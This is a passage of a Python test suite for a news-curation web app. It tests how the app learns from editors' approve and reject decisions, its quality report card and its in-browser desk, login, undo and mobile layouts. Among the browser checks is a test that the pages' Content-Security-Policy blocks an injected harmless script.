        return web.db.conn().execute("SELECT count(*) FROM learn_pending").fetchone()[0]
    assert owed() == 30
    assert web.get("/api/posts?direction=space")[0] == 200
    assert owed() == 25                                     # the page counted five
    wait_for(lambda: owed() == 0, timeout=15)               # the pause, the rest
    assert tuple(web.db.conn().execute(
        "SELECT approved, rejected FROM learners WHERE direction = 'space'").fetchone()) == (0, 30)


def test_a_bulk_decision_from_a_script_is_counted_though_no_page_follows(home, closing):
    write_sources(home / "sources.yaml", [rss_source("wire", "http://wire.example/feed")])
    web = closing(Web(home, settings=make_settings(home, VESTI_WEB_PASSWORD="s3cret",
                                                   VESTI_LEARN_MIN=10)))
    web.app.rescorer.idle = 0.1
    conn = web.db.conn()
    wire = source_row(web.db, "wire")["id"]
    posts = [desk_post(conn, wire, k, text=f"{GAMES[k % 6]} Round {k}.", direction="space",
                       relevance=4, minute=k) for k in range(30)]
    status, _, body = web.post("/posts/status", {"ids": ",".join(map(str, posts)),
                                                 "status": "rejected", "token": web.token()},
                               headers={"Accept": "application/json"})
    assert status == 200 and json.loads(body)["changed"] == 30
    wait_for(lambda: not vesti.owes_learning(web.db.conn()), timeout=10)
    assert tuple(web.db.conn().execute(
        "SELECT approved, rejected FROM learners WHERE direction = 'space'").fetchone()) == (0, 30)


@both
def test_the_report_card_says_how_the_classifier_agrees_with_the_editors(home, closing):
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10, VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    decided_space(conn, wire, MISSIONS, GAMES)
    decided_space(conn, wire, [m + " Again." for m in MISSIONS], [g + " Again." for g in GAMES],
                  start=150)                     # enough to tell apart despite the game below
    add_posts(conn, 1, source_id=wire, start=500, text="Rocket League <b>esports</b> game final.")
    add_posts(conn, 1, source_id=wire, start=501, text="The space agency launched a rocket.")
    add_posts(conn, 1, source_id=wire, start=502, text="The space agency said its spacecraft "
              "reached the Moon and the satellite unfolded its solar panels.")   # no keyword
    add_posts(conn, 1, source_id=wire, start=503, text="The gardening club shows roses.")
    vesti.run_workers(db, s, registry, workers=1, quiet=True)
    game, mission = [r[0] for r in conn.execute(
        "SELECT id FROM posts WHERE title IN ('Post 500', 'Post 501') ORDER BY title")]
    vesti.set_decisions(conn, [game, mission], "approved", "ed")   # the game against the model
    result = cli("quality", "--json", cwd=home, env={"VESTI_LEARN_MIN": "10"})
    assert result.returncode == 0, result.stderr
    [space] = [card for card in json.loads(result.stdout) if card["direction"] == "space"]
    assert (space["decisions"], space["approved"], space["model_used"]) == (26, 14, True)
    assert space["by_relevance"]["7"]["decided"] == 24
    assert sum(f["decided"] for f in space["by_likely"].values()) == 2
    assert space["worst"][0]["id"] == game and space["worst"][0]["likely"] < 0.5
    assert {"esports", "league"} & set(space["worst"][0]["weighed"])
    low, high = space["sources"]["wire"]["interval"]
    assert low < 14 / 26 < high and -1 <= space["kappa"] <= 1
    assert space["precision"]["held_out"] == 6 and space["precision"]["learned"]["p20"] is not None
    assert space["editors"]["ed"]["decisions"] == 26
    assert space["keyword_misses"] == 1                 # the Moon, not the roses
    text = cli("quality", "--direction", "space", cwd=home, env={"VESTI_LEARN_MIN": "10"})
    assert text.returncode == 0 and \
        text.stdout.startswith("space (Space): Editors approved 14 of 26 decisions (54 %).")
    web = closing(Web(home, settings=s))
    assert web.get("/quality", auth=False)[0] == 401
    status, _, page = web.get("/quality")
    assert status == 200 and '<svg class="calibration"' in page
    assert "Post 500" in page and "<b>esports</b>" not in page
    assert 'href="/quality"' in web.get("/")[2]
    assert "Качество" in web.get("/quality?lang=ru")[2]


def rocket_desk(home, **settings):
    """A space desk titled "Space and rockets" whose editor decided 60 posts:
    30 missions approved (6 at a chance of 0.55, the rest at 0.85) and 30
    games rejected (8 at 0.55, the rest at 0.15), all of relevance 7. The
    desk's floor shows every mission and the 8 games at 0.55: it agrees on
    52 (87 %), 0.73 beyond chance (half approved, 38 of 60 shown)."""
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10, VESTI_WEB_PASSWORD="s3cret",
                                       **settings)
    path = home / "sources.yaml"
    path.write_text(path.read_text().replace("title: Space", "title: Space and rockets"))
    conn = db.conn()
    missions = [desk_post(conn, wire, 100 + k, text=f"{MISSIONS[k % 6]} Flight {k}.",
                          title=f"Mission {k}", direction="space") for k in range(30)]
    games = [desk_post(conn, wire, 200 + k, text=f"{GAMES[k % 6]} Match {k}.",
                       title=f"Game {k}", direction="space") for k in range(30)]
    for post in missions + games:
        sure = post in missions[6:] or post in games[8:]
        likely = (0.85 if post in missions else 0.15) if sure else 0.55
        conn.execute("UPDATE posts SET likely = ? WHERE id = ?", (likely, post))
    vesti.set_decisions(conn, missions, "approved", "ed")
    vesti.set_decisions(conn, games, "rejected", "ed")
    for k, post in enumerate(itertools.chain(*zip(missions, games))):
        conn.execute("UPDATE posts SET decided_at = ? WHERE id = ?", (november(1000 + k), post))
    return s, db     # decided in turn, a minute apart: the newest 12 hold both


def test_agreement_beyond_chance_is_not_told_when_the_desk_showed_every_decided_post():
    """Editors who decide only the cards the desk shows agree with it as
    often as they approve: Cohen's κ is 0 whatever the desk shows, and says
    nothing. The report card says it cannot be told instead."""
    shown_only = [(True, True)] * 38 + [(True, False)] * 22
    assert vesti.kappa(shown_only) is None
    assert vesti.kappa([(True, True)] * 30 + [(False, False)] * 20 + [(True, False)] * 10) == \
        pytest.approx(0.667, abs=0.001)
    card = {"decisions": 60, "minimum": {"decisions": 20}, "kappa": None, "agreed": 38,
            "model_used": True, "learn_min": 30, "keyword_misses": 0,
            "keyword_misses_decided": 0, "keyword_misses_approved": 0,
            "keyword_misses_shown": 0, "approved": 38,
            "approval_rate": 0.633}
    agrees = vesti.card_sentences(card, vesti.say_en)[2]
    assert agrees.startswith("The desk agrees with the editors on 63 % of 60 decisions; how far "
                             "beyond chance cannot be told")


@both
def test_the_report_card_reads_in_plain_words_under_the_directions_titles(home, closing):
    s, db = rocket_desk(home)
    env = {"VESTI_LEARN_MIN": "10"}
    [space] = [card for card in json.loads(cli("quality", "--json", cwd=home, env=env).stdout)
               if card["direction"] == "space"]
    assert (space["title"], space["decisions"], space["agreed"]) == ("Space and rockets", 60, 52)
    assert space["kappa"] == pytest.approx(0.733, abs=0.001)
    assert space["precision"]["held_out"] == 12 and space["precision"]["rests_on"] == \
        {"p20": 12, "p50": 12}
    web = closing(Web(home, settings=s))
    page = web.get("/quality")[2]
    russian = web.get("/quality?lang=ru")[2]
    section = re.search(r'<section class="quality" id="direction-space">.*?</section>', page, re.S)[0]
    assert "<h2>Space and rockets</h2>" in section and "<h2>space</h2>" not in section
    text = html.unescape(re.sub(r"<[^>]+>", " ", section))
    assert "Editors approved 30 of 60 decisions (50 %)." in text
    assert "The desk agrees with the editors on 87 % of 60 decisions, 0.73 beyond chance " \
        "(Cohen's κ)." in text
    assert "0 is no better than chance, 1 is agreeing on every post" in text   # κ explained
    # P@20 on 12 held-out decisions says so, with how loose it is.
    learned = re.search(r"by the learned model\s*(\d+) of (\d+): (\d\.\d\d) \(95 %: (\d\.\d\d)–",
                        text)
    assert learned[2] == "12" and float(learned[4]) < float(learned[3])
    assert "Only 12 are held out, so the first 20 are all of them" in text
    # Every table says what its columns are.
    tables = re.findall(r"<table>(.*?)</table>", section, re.S)
    assert len(tables) == 5 and all(t.startswith("<tr><th>") for t in tables)
    assert "<th>chance</th><th>approved of decided</th><th>share approved</th>" in section
    assert "<th>relevance</th><th>approved of decided</th><th>share approved</th>" in section
    assert "<th>source</th><th>approved of decided</th><th>share approved</th><th>95 % range</th>" \
        in section
    # Each editor's decisions under a heading of their own.
    assert re.search(r"<h3>Each editor's decisions</h3><table><tr><th>editor</th><th>decisions</th>"
                     r"<th>a day</th><th>share approved</th></tr><tr><td>ed</td><td>60</td>",
                     html.unescape(section))
    assert "Editors who decided the same story" not in section
    # The direction nobody decided in one line, not drawn in full.
    assert 'id="direction-linux"' not in page
    assert '<p class="muted" id="no-decisions">No decisions yet: Linux.</p>' in page
    # The Russian page says it all in Russian.
    ru = html.unescape(re.sub(r"<[^>]+>", " ", re.sub(r"<ol>.*?</ol>", "", re.search(
        r'<section class="quality" id="direction-space">.*?</section>', russian, re.S)[0])))
    assert "Редакторы одобрили 30 из 60 решений (50 %)." in ru
    assert "Отбор согласен с редакторами в 87 % из 60 решений, на 0.73 лучше случайного" in ru
    assert "Пока без решений: Linux." in russian
    english = [word for word in re.findall(r"[A-Za-z]{4,}", ru)
               if word not in {"Space", "rockets", "wire"}]      # the titles, the source
    assert not english, english


@both
def test_the_report_card_says_too_few_to_say_and_the_terminal_never_none(home, closing):
    s, db, registry, wire = space_home(home, VESTI_LEARN_MIN=10, VESTI_WEB_PASSWORD="s3cret")
    conn = db.conn()
    decided_space(conn, wire, MISSIONS[:4], GAMES[:4])
    env = {"VESTI_LEARN_MIN": "10"}
    text = cli("quality", cwd=home, env=env)
    assert text.returncode == 0, text.stderr
    assert "None" not in text.stdout
    assert "Agreement with the editors: too few to say (8 decisions; 20 needed)." in text.stdout
    assert "The first 20 and 50 of each order: too few to say (0 decisions held out; " \
        "10 needed)." in text.stdout
    assert "No model yet: one is learned from 10 decisions, at least 5 approved and 5 rejected" \
        in text.stdout
    assert text.stdout.rstrip().endswith("\nNo decisions yet: linux (Linux).")
    assert "approved per tenth of the chance (likely): No decided post had a chance" in text.stdout
    [space] = [c for c in json.loads(cli("quality", "--json", cwd=home, env=env).stdout)
               if c["direction"] == "space"]
    assert space["precision"] is None and space["minimum"] == {"decisions": 20, "held_out": 10}
    empty = cli("quality", "--direction", "linux", cwd=home, env=env)
    assert empty.stdout == "No decisions yet: linux (Linux).\n"
    web = closing(Web(home, settings=s))
    page = web.get("/quality")[2]
    assert "too few to say (8 decisions; 20 needed)" in page and "beyond chance" not in page
    assert "<svg" not in page and "No decided post had a chance from the model yet" in page


@both
def test_the_report_card_says_what_learning_changed_on_the_desk_this_week(home, closing):
    s, db = rocket_desk(home)
    conn = db.conn()
    wire = source_row(db, "wire")["id"]
    vesti.relearn_if_features_changed(conn)                 # of this release: chances kept

    def post(k, relevance, likely, status="new", published=ago(3600)):
        post = desk_post(conn, wire, 300 + k, relevance=relevance, direction="space",
                         title=f"This week {k}")
        if status != "new":
            vesti.set_decisions(conn, [post], status, "ed")
        conn.execute("UPDATE posts SET likely = ?, published_at = ?, keywords = ? WHERE id = ?",
                     (likely, published, None if relevance < 3 else "rocket", post))
    post(0, 2, 0.8, "approved")                 # raised: shown by the model alone
    post(1, 2, 0.9, "rejected")
    post(2, 2, 0.8)
    post(3, 2, 0.8, "approved", published=november(5))      # raised, but weeks ago
    post(4, 6, 0.2, "rejected")                 # lowered: hidden by the model alone
    post(5, 6, 0.3)
    post(6, 2, 0.5)                             # under the floor by relevance: not the model
    post(7, 6, 0.9)                             # shown anyway
    [space] = [c for c in json.loads(cli("quality", "--json", "--direction", "space", cwd=home,
                                         env={"VESTI_LEARN_MIN": "10"}).stdout)]
    week = space["changed_this_week"]
    assert week["raised"] == {"posts": 3, "decided": 2, "approved": 1}
    assert week["lowered"] == {"posts": 2, "decided": 1, "approved": 0}
    # The posts no keyword matched that the model let in, and what editors made of them.
    assert (space["keyword_misses"], space["keyword_misses_decided"],
            space["keyword_misses_approved"], space["keyword_misses_shown"]) == (5, 3, 2, 4)
    web = closing(Web(home, settings=s))
    page = html.unescape(web.get("/quality")[2])
    assert "<h3>What learning changed on the desk among the posts published in the last 7 days" \
        "</h3><table><tr><th>change" in page
    assert "<td>shown by the model: relevance under 3, chance 0.75 or more</td><td>3</td><td>2</td>" \
        "<td>1/2 (50 %)</td>" in page
    assert "<td>hidden by the model: relevance 3 or more, chance under 0.35</td><td>2</td><td>1</td>" \
        "<td>0/1 (0 %)</td>" in page
    assert "The model let in 5 posts no keyword matched, 4 of them on the desk as it opens (the " \
        "rest wait under its floor); the editors approved 2 of the 3 they decided." in page
    text = cli("quality", "--direction", "space", cwd=home, env={"VESTI_LEARN_MIN": "10"}).stdout
    assert "shown by the model: relevance under 3, chance 0.75 or more: 3 posts, 2 decided, " \
        "approved 1/2 (50 %)" in text


# Web pages: in a real browser -------------------------------------------------

def test_the_crawlers_page_in_a_real_browser(web, browser):
    conn = web.db.conn()
    add_posts(conn, 15, source_id=source_row(web.db, "lwn")["id"])
    conn.execute("UPDATE sources SET status = 'dead', error_count = 7, last_error = 'HTTP 500'")
    browser.open(web.origin + "/crawlers", {"Authorization": web.auth})
    shown = browser.evaluate("""({
        pending: document.querySelector('#queue-pending b').textContent,
        cards: document.querySelectorAll('.card').length,
        status: document.querySelector('#source-lwn td.dead').textContent,
        error: document.querySelector('#source-lwn td.error').textContent,
        tableWidth: document.querySelector('table').getBoundingClientRect().width})""")
    assert shown["pending"] == "15" and shown["cards"] == 4
    assert (shown["status"], shown["error"]) == ("dead", "HTTP 500")
    assert shown["tableWidth"] > 300
    browser.evaluate("document.querySelector('form[action=\"/crawlers/reset\"] button').click()")
    browser.wait_for_load()
    assert browser.evaluate("location.pathname") == "/crawlers"
    assert browser.evaluate("document.querySelector('#source-lwn td.alive').textContent") == "alive"
    row = source_row(web.db, "lwn")
    assert (row["status"], row["error_count"], row["last_error"]) == ("alive", 0, None)


def test_a_page_runs_its_own_scripts_and_no_other(web, browser):
    """Every page says, in its Content-Security-Policy, which scripts it may
    run: its own, by their hashes. A script that reached a page past the
    escaping would not run; the page's own do."""
    conn = web.db.conn()
    for k in range(1, 4):
        desk_post(conn, lwn(web), k)
    for path, auth in (("/", True), ("/crawlers", True), ("/outbox", True), ("/quality", True),
                       ("/users", True), ("/login", False)):
        status, headers, page = web.get(path, auth=auth, headers=PAGE)
        policy = headers.get("Content-Security-Policy", "")
        assert "default-src 'none'" in policy and "frame-ancestors 'none'" in policy, path
        for script in re.findall(r"<script>(.*?)</script>", page, re.S):
            assert vesti.script_source(script) in policy, (path, script[:60])
    browser.open(web.origin + "/", {"Authorization": web.auth})
    ran = browser.evaluate("""(function(){
        var s = document.createElement('script');
        s.textContent = 'window.smuggled = 1';
        document.body.appendChild(s);
        return {smuggled: window.smuggled === 1,
                own: document.querySelectorAll('article.post').length}})()""")
    assert ran == {"smuggled": False, "own": 3}
    browser.evaluate("document.dispatchEvent(new KeyboardEvent('keydown', {key: 'j'}))")
    assert browser.evaluate("document.querySelector('article.post.current') !== null")


def test_the_desk_from_the_keyboard_decides_in_place(web, browser):
    conn = web.db.conn()
    ids = [desk_post(conn, lwn(web), k) for k in range(1, 41)]
    browser.open(web.origin + "/", {"Authorization": web.auth})
    browser.evaluate("window.marker = 'same page'")
    for _ in range(31):
        press(browser, "j")                               # to the 31st card
    current = browser.evaluate("document.querySelector('article.current').dataset.id")
    assert int(current) == ids[-31]
    press(browser, "a")
    assert wait_for(lambda: browser.evaluate(
        f"document.getElementById('post-{current}').dataset.busy === '0'"), timeout=10)
    shown = browser.evaluate(f"""({{
        badge: document.querySelector('#post-{current} .state').textContent,
        disabled: [...document.querySelectorAll('#post-{current} button')].map(b => b.disabled),
        next: document.querySelector('article.current').dataset.id,
        marker: window.marker, top: window.scrollY}})""")
    assert shown["badge"] == "approved" and shown["disabled"] == [True, False, False]
    assert int(shown["next"]) == ids[-32]                # focus moved on, no reload
    assert shown["marker"] == "same page" and shown["top"] > 0
    assert decision_of(conn, current) == ("approved", "admin")
    press(browser, "r")
    press(browser, "u")                                   # undo the reject at once
    assert wait_for(lambda: browser.evaluate(
        f"document.getElementById('post-{ids[-32]}').dataset.busy === '0'"), timeout=10)
    assert browser.evaluate(f"document.getElementById('post-{ids[-32]}').dataset.status") == "new"
    assert post_row(conn, ids[-32])["status"] \
        == "new"


def test_an_editor_signs_in_sees_who_else_looks_and_signs_out_in_a_real_browser(web, browser):
    accounts = newsroom(web)
    conn = web.db.conn()
    ids = [desk_post(conn, lwn(web), k) for k in range(1, 4)]
    top = ids[-1]                                           # newest first
    # The page's clock runs ten times faster: its poll of who is looking
    # comes every 0.4 s instead of every 4 s.
    browser.call("Page.addScriptToEvaluateOnNewDocument", session=True, source=(
        "const every = window.setInterval;"
        "window.setInterval = (f, ms, ...a) => every(f, ms / 10, ...a);"))
    browser.open(web.origin + "/login", {})
    browser.evaluate("document.querySelector('input[name=user]').value = 'anna';"
                     "document.querySelector('input[name=password]').value = 'anna-password';")
    browser.events.clear()
    browser.evaluate("document.querySelector('form.login button').click()")
    browser.wait_for_load()
    assert browser.evaluate("location.pathname") == "/"
    assert "anna" in browser.evaluate("document.querySelector('.account').textContent")
    # "Sign out" on the line of the name it signs out, not wrapped under it.
    assert browser.evaluate("""(() => {
        const out = document.querySelector('form.signout button').getBoundingClientRect(),
              words = document.createRange();
        words.selectNodeContents(document.querySelector('.account').firstChild);
        const name = words.getBoundingClientRect();
        return out.top < name.bottom && out.bottom > name.top; })()""")
    boris = form_token(web, accounts["boris"])
    web.post(f"/posts/{top}/look", {"token": boris}, auth=False, headers=accounts["boris"])
    assert wait_for(lambda: "boris looking" in browser.evaluate(
        f"document.querySelector('#post-{top} .looking').textContent"), timeout=10)
    press(browser, "j")                                     # anna is on the first card
    assert wait_for(lambda: json.loads(web.get(f"/api/looks?ids={top}", auth=False,
                                               headers=accounts["boris"])[2]) == {str(top): ["anna"]},
                    timeout=10)
    web.post(f"/posts/{top}/status", {"token": boris, "status": "approved", "seen": "new"},
             auth=False, headers=accounts["boris"])
    press(browser, "r")                                     # anna's page still shows it new
    # Refused, the card turns into what boris decided: no "to decide", no "boris looking".
    assert wait_for(lambda: browser.evaluate(f"document.getElementById('post-{top}').dataset.status")
                    == "approved", timeout=10)
    card = browser.evaluate(f"""(() => {{ const c = document.getElementById('post-{top}');
        return {{badge: c.querySelector('.state').textContent,
                 decided: c.querySelector('p.decided').textContent,
                 looking: c.querySelector('.looking').hidden,
                 unsaved: (c.querySelector('.unsaved') || {{hidden: true}}).hidden}}; }})()""")
    assert card["badge"] == "approved" and "Set to approved by boris meanwhile" in card["decided"]
    assert card["looking"] and card["unsaved"]
    assert decision_of(conn, top) \
        == ("approved", "boris")
    browser.evaluate(f"document.querySelector('#post-{top} button[value=rejected]').click()")
    assert wait_for(lambda: decision_of(conn, top) == ("rejected", "anna"), timeout=10)
    browser.events.clear()
    browser.evaluate("document.querySelector('form.signout button').click()")
    browser.wait_for_load()
    assert browser.evaluate("location.pathname") == "/login"
    assert conn.execute("SELECT count(*) FROM sessions").fetchone()[0] == 0


def test_a_decision_in_place_takes_the_edited_after_decision_mark_away(web, browser):
    conn = web.db.conn()
    post = desk_post(conn, lwn(web), 1, title="Cheap pills for Linux users")
    conn.execute("""UPDATE posts SET old_decision = 'approved', old_decided_by = 'admin',
                    old_decided_at = '2026-11-30 10:00:00', old_title = 'Kernel 7.1 is out',
                    old_text = 'Kernel 7.1 is out with a faster scheduler.' WHERE id = ?""", (post,))
    browser.open(web.origin + "/", {"Authorization": web.auth})
    mark = "document.querySelectorAll('#post-%d p.edited').length" % post
    assert browser.evaluate(mark) == 1
    press(browser, "j")
    press(browser, "r")
    assert wait_for(lambda: browser.evaluate(
        f"document.getElementById('post-{post}').dataset.busy === '0'"), timeout=10)
    assert browser.evaluate(mark) == 0
    assert (post_row(conn, post)["status"], post_row(conn, post)["old_decision"]) == \
        ("rejected", None)
    press(browser, "?")
    assert browser.evaluate("!document.getElementById('keys').hidden")
    assert visible(browser, ".keys-hint") and visible(browser, "form.filters")   # a wide screen


def decision_shown(browser, post):
    """The card of a post once its decisions have settled, and the alerts
    the page raised."""
    assert wait_for(lambda: browser.evaluate(
        f"document.getElementById('post-{post}').dataset.busy === '0'"), timeout=10)
    return browser.evaluate(f"""(() => {{
        const card = document.getElementById('post-{post}'), note = card.querySelector('.unsaved');
        return {{status: card.dataset.status, badge: card.querySelector('.state').textContent,
                 note: note && !note.hidden ? note.textContent : '', alerts: window.alerts,
                 current: document.querySelector('article.current').dataset.id}}; }})()""")


def test_a_decision_that_did_not_save_looks_unsaved_and_saves_when_tried_again(web, browser):
    conn = web.db.conn()
    post = [desk_post(conn, lwn(web), k) for k in range(1, 4)][-1]
    browser.open(web.origin + "/", {"Authorization": web.auth})
    browser.evaluate("window.alerts = []; window.alert = m => window.alerts.push(String(m))")
    press(browser, "j")
    secret, web.app.secret = web.app.secret, b"another secret"    # the server refuses the form
    press(browser, "a")
    shown = decision_shown(browser, post)
    assert (shown["status"], shown["badge"], shown["alerts"]) == ("new", "to decide", [])
    assert shown["note"] == ("Not saved: the server answered 403 (Cross-site request refused). "
                             "Press a to try again.")
    assert int(shown["current"]) == post                  # the key to try again is at hand
    web.app.secret = secret
    browser.call("Network.emulateNetworkConditions", session=True, offline=True, latency=0,
                 downloadThroughput=-1, uploadThroughput=-1)              # the connection is lost
    browser.evaluate(f"document.querySelector('#post-{post} button.approved').click()")
    shown = decision_shown(browser, post)
    assert (shown["status"], shown["alerts"]) == ("new", [])
    assert shown["note"] == "Not saved: the server could not be reached. Press a to try again."
    assert post_row(conn, post)["status"] == "new"
    browser.call("Network.emulateNetworkConditions", session=True, offline=False, latency=0,
                 downloadThroughput=-1, uploadThroughput=-1)
    press(browser, "a")
    shown = decision_shown(browser, post)
    assert (shown["status"], shown["badge"], shown["note"]) == ("approved", "approved", "")
    assert post_row(conn, post)["status"] == \
        "approved"


def test_a_card_edited_since_the_page_was_loaded_is_not_decided_in_place(web, browser):
    conn = web.db.conn()
    ids = [desk_post(conn, lwn(web), k) for k in range(1, 4)]
    browser.open(web.origin + "/", {"Authorization": web.auth})
    conn.execute("UPDATE posts SET text = 'Cheap pills for Linux users' WHERE id = ?", (ids[0],))
    browser.evaluate(f"document.querySelector('#post-{ids[0]} button.approved').click()")
    shown = decision_shown(browser, ids[0])
    assert (shown["status"], shown["badge"]) == ("new", "to decide")
    assert shown["note"] == ("Not saved: the post changed since this page was loaded; reload it "
                             "to see the post. Press a to try again.")
    browser.evaluate("document.querySelector('form.bulk button[value=rejected]').click()")
    browser.evaluate("document.querySelector('form.bulk .yes').click()")
    assert wait_for(lambda: browser.evaluate(
        "!document.querySelector('form.bulk .unsaved').hidden"), timeout=10)
    assert "the post changed since this page was loaded" in \
        browser.evaluate("document.querySelector('form.bulk .unsaved').textContent")
    assert set(statuses(conn).values()) == {"new"}
    browser.evaluate(f"document.querySelector('#post-{ids[1]} button.approved').click()")
    assert decision_shown(browser, ids[1])["status"] == "approved"    # its words are as shown
    browser.open(web.origin + "/", {"Authorization": web.auth})
    browser.evaluate(f"document.querySelector('#post-{ids[0]} button.rejected').click()")
    assert decision_shown(browser, ids[0])["status"] == "rejected"
    assert post_row(conn, ids[0])["status"] == \
        "rejected"


def test_rejecting_every_card_shown_asks_first_and_can_be_undone(web, browser):
    conn = web.db.conn()
    for k in range(1, 4):
        desk_post(conn, lwn(web), k)
    browser.open(web.origin + "/", {"Authorization": web.auth})
    browser.evaluate("window.asked = []; window.confirm = m => window.asked.push(m)")

    def all_shown(shown):
        on_page = browser.evaluate("[...document.querySelectorAll('article.post')]"
                                   ".map(c => c.dataset.status).join()")
        stored = set(statuses(conn).values())
        return on_page == ",".join([shown] * 3) and stored == {shown}
    browser.evaluate("document.querySelector('form.bulk button[value=rejected]').click()")
    assert visible(browser, "form.bulk .confirm") and not visible(browser, "form.bulk .ask")
    assert browser.evaluate("document.querySelector('form.bulk .confirm').innerText") \
        .startswith("Reject these 3 posts?")
    assert all_shown("new")                                  # nothing decided yet
    browser.evaluate("document.querySelector('form.bulk .no').click()")       # Cancel
    assert visible(browser, "form.bulk .ask") and not visible(browser, "form.bulk .confirm")
    browser.evaluate("document.querySelector('form.bulk button[value=rejected]').click()")
    browser.evaluate("document.querySelector('form.bulk .yes').click()")
    assert wait_for(lambda: browser.evaluate(
        "!document.querySelector('form.bulk .done').hidden"), timeout=10)
    assert all_shown("rejected")
    assert browser.evaluate("document.querySelector('form.bulk .done').innerText") \
        .startswith("3 posts rejected.")
    browser.evaluate("document.querySelector('form.bulk .undo').click()")
    assert wait_for(lambda: browser.evaluate(
        "document.querySelector('form.bulk .done').hidden"), timeout=10)
    assert all_shown("new")
    assert visible(browser, "form.bulk .ask") and browser.evaluate("window.asked") == []


def test_on_a_phone_the_desk_starts_with_its_first_card(web, browser):
    conn = web.db.conn()
    for k in range(1, 6):
        desk_post(conn, lwn(web), k)
    desk_post(conn, lwn(web), 6, relevance=1)
    add_posts(conn, 3, source_id=lwn(web), start=100)       # the first crawl's, still waiting
    browser.call("Emulation.setDeviceMetricsOverride", session=True, width=390, height=844,
                 deviceScaleFactor=3, mobile=True)
    browser.open(web.origin + "/", {"Authorization": web.auth})
    shown = browser.evaluate("""(() => {
        const top = e => e.getBoundingClientRect().top + window.scrollY;
        const cards = [...document.querySelectorAll('article.post')];
        const last = cards[cards.length - 1];
        return {bulk: top(document.querySelector('form.bulk')), firstCard: top(cards[0]),
                lastCardBottom: top(last) + last.getBoundingClientRect().height}; })()""")
    assert shown["bulk"] >= shown["lastCardBottom"]        # not in the thumb's path above a card
    assert shown["firstCard"] < 844 / 2, shown             # the filters folded away
    assert not visible(browser, ".keys-hint")               # no keyboard to press ? on
    assert not visible(browser, "form.filters") and visible(browser, "details.filters summary")
    browser.evaluate("document.querySelector('details.filters summary').click()")
    assert visible(browser, "form.filters")
    browser.open(web.origin + "/?q=post", {"Authorization": web.auth})
    assert visible(browser, "form.filters")                 # a filter in use stays in sight


def test_without_javascript_a_decision_comes_back_to_its_card(web, browser):
    conn = web.db.conn()
    ids = [desk_post(conn, lwn(web), k) for k in range(1, 41)]
    target = ids[-31]
    browser.open(web.origin + "/?min=0", {"Authorization": web.auth})
    # What a browser without JavaScript does: post the card's form as it is.
    browser.evaluate(f"""(() => {{
        const form = document.querySelector('#post-{target} form.decide');
        const choice = Object.assign(document.createElement('input'),
                                     {{type: 'hidden', name: 'status', value: 'approved'}});
        form.appendChild(choice);
        HTMLFormElement.prototype.submit.call(form); }})()""")
    browser.wait_for_load()
    assert wait_for(lambda: browser.evaluate("window.scrollY > 0"), timeout=10)   # back to the card
    where = browser.evaluate(f"""({{path: location.pathname + location.search,
        hash: location.hash,
        cardTop: document.getElementById('post-{target}').getBoundingClientRect().top}})""")
    assert where["hash"] == f"#post-{target}"
    assert where["path"] == f"/?min=0&decided={target}"
    assert 0 <= where["cardTop"] < 100
    assert browser.evaluate(f"document.getElementById('post-{target}').dataset.status") == \
        "approved"                                        # shown decided, in its place
    assert post_row(conn, target)["status"] == \
        "approved"


def test_on_a_phone_each_source_shows_its_status_and_last_error(web, browser):
    web.db.conn().execute("UPDATE sources SET status = 'dead', error_count = 7, "
                          "last_error = 'HTTP 500 Internal Server Error'")
    browser.call("Emulation.setDeviceMetricsOverride", session=True, width=390, height=844,
                 deviceScaleFactor=3, mobile=True)
    browser.open(web.origin + "/crawlers", {"Authorization": web.auth})
    boxes = browser.evaluate("""(() => {
        const box = e => { const r = e.getBoundingClientRect();
                           return {left: r.left, right: r.right, width: r.width, height: r.height}; };
        const row = document.querySelector('#source-lwn');
        return {status: box(row.querySelector('td.dead')),
                error: box(row.querySelector('td.error')),
                errorText: row.querySelector('td.error').innerText,
                page: document.documentElement.scrollWidth,
                viewport: window.innerWidth}; })()""")
    assert boxes["viewport"] == 390 and boxes["page"] <= 390       # no sideways scrolling
    for cell in ("status", "error"):
        box = boxes[cell]
        assert box["width"] > 0 and box["height"] > 0
        assert 0 <= box["left"] and box["right"] <= 390, (cell, box)
    assert "HTTP 500 Internal Server Error" in boxes["errorText"]


def test_undoing_a_published_post_asks_first_and_the_outbox_fits_a_phone(home, bot, browser,
                                                                         closing):
    s, db, lwn_id = publish_home(home, bot, [{**CHANNEL, "every": "1h"}], VESTI_WEB_PASSWORD="s3cret")
    web = closing(Web(home, settings=s))
    conn = db.conn()
    sent, waiting = desk_post(conn, lwn_id, 1), desk_post(conn, lwn_id, 2)
    conn.execute("UPDATE posts SET url = ?, title = ? WHERE id = ?",
                 ("https://news.example/" + "long-path/" * 150, "Word " * 60, waiting))
    vesti.set_decisions(conn, [sent, waiting], "approved", "ed")
    publisher = vesti.Publisher(db, s)
    publisher.look()
    assert len(bot.messages) == 1
    browser.open(web.origin + "/?status=approved", {"Authorization": web.auth})
    undo = "document.querySelector('#post-{} button[value=new]').click()"
    browser.evaluate("window.confirm = m => { window.asked = m; return window.answer }")
    browser.evaluate(f"window.answer = false; {undo.format(sent)}")
    assert "This deletes the message in @vesti_test" in browser.evaluate("window.asked")
    time.sleep(0.3)
    assert post_row(conn, sent)["status"] == "approved"
    browser.evaluate(f"window.answer = true; window.asked = null; {undo.format(sent)}")
    assert wait_for(lambda: post_row(conn, sent)["status"] == "new", timeout=10)
    publisher.look()
    assert bot.messages == [] and len(bot.deleted) == 1
    # What was never sent is taken back without a question.
    browser.evaluate(f"window.asked = null; {undo.format(waiting)}")
    assert wait_for(lambda: post_row(conn, waiting)["status"] == "new", timeout=10)
    assert browser.evaluate("window.asked") is None
    vesti.set_decisions(conn, [waiting], "approved", "ed")
    browser.call("Emulation.setDeviceMetricsOverride", session=True, width=390, height=844,
                 deviceScaleFactor=3, mobile=True)
    browser.open(web.origin + "/outbox", {"Authorization": web.auth})
    shown = browser.evaluate("""(() => {
        const row = document.querySelector('tr.pub-queued'), area = row.querySelector('textarea');
        const r = row.getBoundingClientRect();
        area.value = 'x'.repeat(5000); area.dispatchEvent(new Event('input'));
        const counter = row.querySelector('.counter');
        return {page: document.documentElement.scrollWidth, left: r.left, right: r.right,
                counter: counter.textContent, over: counter.classList.contains('over')}; })()""")
    assert shown["page"] <= 390 and 0 <= shown["left"] and shown["right"] <= 390, shown
    assert shown["counter"] == "5000 / 4096" and shown["over"]

CRAWLER_ERRORS = [
    "TLS certificate not accepted (certificate has expired)",
